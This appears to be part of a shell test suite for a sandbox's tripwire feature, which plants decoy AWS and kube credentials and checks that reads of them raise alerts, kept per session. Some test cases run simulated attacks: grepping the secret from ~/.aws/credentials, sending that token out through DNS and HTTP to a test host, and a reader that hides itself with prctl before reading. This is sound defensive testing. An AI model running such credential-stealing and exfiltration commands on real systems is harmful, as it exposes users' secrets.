run_case flood --tripwires on --net public -- sh -c "$flood"
took=$(( $(date +%s) - start ))
if [ "$RC" -eq 0 ] && [ "$(trip_count)" -eq 2 ] && [ "$took" -lt 60 ] &&
	grep -qE '"reason":"the decoy AWS credentials was opened 50[0-9] time' "$C/audit" &&
	grep -q 'more DNS name(s) under flood.test were answered NXDOMAIN' "$C/audit"; then
	ok "tripwire: 500 opens and 200 names carrying a token give two alerts and two counts (${took}s)"
else
	fail_case "tripwire: a flood gives one alert each" "alerts $(trip_count), ${took}s" \
		"$(grep tripwire "$C/audit" | cut -c1-200 | head -n 8)"
fi
# Another session: it cannot see this one's decoys, and this one's token fires nothing there.
C=$TN/cases/pair
mkdir -p "$C" && chmod a+rwX "$C"
AID=$(cd "$C" && tn_boxy run -d --tripwires on --audit-log "$C/a.audit" --net public -- sh -c \
	'sleep 1; grep secret ~/.aws/credentials | cut -d" " -f3 >token; sleep 4' 2>/dev/null)
BID=$(cd "$C" && tn_boxy run -d --tripwires on --audit-log "$C/b.audit" --net public -- sh -c \
	'sleep 3; t=$(cat token); getent hosts "$t.other-session.test" >/dev/null;
	 printf "GET /?t=%s HTTP/1.0\r\n\r\n" "$t" | curl -s -m 3 -o /dev/null --data-binary @- http://other.example.test:8081/;
	 ls -la /proc >/dev/null; sleep 1' 2>/dev/null)
for _ in $(seq 1 150); do
	tn_boxy ps 2>/dev/null | grep -qE "^(${AID:0:8}|${BID:0:8})" || break
	sleep 0.1
done
sleep 0.5
a_alerts=$(grep -c '"layer":"tripwire","verdict":"alert"' "$C/a.audit")
b_alerts=$(grep -c '"layer":"tripwire","verdict":"alert"' "$C/b.audit")
if [ -n "$AID" ] && [ -n "$BID" ] && [ "$a_alerts" -eq 1 ] && [ "$b_alerts" -eq 0 ] &&
	[ -s "$C/token" ]; then
	ok "tripwire: two sessions at once: the reader's alert is in its own session only; its token sent by the other fires nothing there"
else
	fail_case "tripwire: two sessions keep their wires apart" "a $a_alerts, b $b_alerts" \
		"$(cat "$C/a.audit" "$C/b.audit" | grep tripwire | cut -c1-200)"
fi
# A reader that made itself not dumpable: its /proc files turn root's, yet it is named.
nodump='python3 -c "
import ctypes, os
ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
print(\"DUMPABLE\", ctypes.CDLL(None).prctl(3, 0, 0, 0, 0))
print(\"READ\", len(open(os.path.expanduser(\"~/.aws/credentials\")).read()) > 0)"'
run_case nodump --tripwires on --net none -- sh -c "$nodump"
if grep -q '^DUMPABLE 0$' "$C/out" && grep -q '^READ True$' "$C/out" &&
	trip_alerts | grep -q '^~/.aws/credentials|.*opened by python3'; then
	ok "tripwire: a reader that made itself not dumpable is still named"
else
	fail_case "tripwire: a not-dumpable reader is named" "$(trip_alerts)" "$(cat "$C/out")"
fi
# How long the first open of a decoy is held while its reader is named.
lat='python3 -c "
import os, time
p = os.path.expanduser(\"~/.kube/config\")
t = time.monotonic(); f = open(p); d = time.monotonic() - t
print(\"held %.2f ms\" % (d * 1000))"'
run_unflooded latency --tripwires on --net none -- sh -c "$lat"
held=$(grep -o 'held [0-9.]* ms' "$C/out")
if [ -n "$held" ] && [ "$FLOODED" = no ] &&
	awk -v h="${held#held }" 'BEGIN { exit !(h + 0 < 250) }'; then
	ok "tripwire: the first open of a decoy is held while its reader is named, well under the 250 ms bound ($held)"
else
	fail_case "tripwire: the held open stays under 250 ms" "$held" \
		"the host's /proc/locks past 64 KiB during run $ATTEMPT: $FLOODED" "$(cat "$C/out")"
fi

done_testing
